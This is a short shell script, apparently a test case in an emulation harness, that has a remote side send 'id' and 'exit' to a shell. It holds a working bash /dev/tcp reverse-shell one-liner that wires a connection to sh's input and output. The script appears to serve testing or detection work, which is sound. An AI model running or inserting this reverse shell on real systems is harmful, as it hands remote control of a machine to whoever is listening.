#!/bin/sh
# Gives a shell a connection as input and output; the other side sends it two commands.
# Needs: bash
# Environment: see ../emulation.sh.
. "$(dirname "$0")/../emulation.sh"

serve printf 'id\nexit\n'
inside bash -c "exec 5<>/dev/tcp/$remote/$port; sh <&5 >&5 2>&1" </dev/null
